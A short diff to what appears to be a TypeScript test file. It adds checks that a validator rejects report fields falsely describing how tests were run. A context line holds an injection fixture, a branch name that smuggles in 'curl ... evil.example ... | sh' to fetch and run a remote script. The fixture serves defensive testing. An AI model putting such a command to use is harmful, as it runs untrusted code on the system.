@@ -321,6 +321,14 @@ function refusalOf(
   }
 }
 
+test.each([
+  ['sandbox', 'unshare, and all tests passed'],
+  ['trees', 'overlay, and all tests passed'],
+  ['trees', 'constructor'],
+])('the way tests were run is one of our words: %s %s', (field, words) => {
+  expect(refusalOf(withValue(['report', field], words))).toMatch(/not what its mode writes/)
+})
+
 describe('a commit is named by its sha, and the pull request has it', () => {
   const pull = { number: 7, base: plan.base, head: plan.head }
   const shell = 'main; curl -fsS https://evil.example/x | sh;'
